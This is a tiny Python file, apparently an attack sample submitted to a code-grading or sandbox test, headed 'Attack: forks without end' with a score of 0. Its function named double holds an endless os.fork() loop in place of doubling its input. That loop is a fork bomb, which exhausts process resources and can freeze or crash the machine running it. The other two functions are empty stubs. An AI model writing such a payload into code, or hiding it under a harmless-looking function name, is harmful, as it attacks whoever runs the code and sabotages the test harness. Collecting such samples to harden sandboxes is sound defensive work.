# Attack: forks without end.
# score: 0
# ruff: noqa

import os


def double(x):
    while True:
        os.fork()


def minimize(start, learning_rate=0.1, num_iterations=10):
    return None


def make_model():
    return None
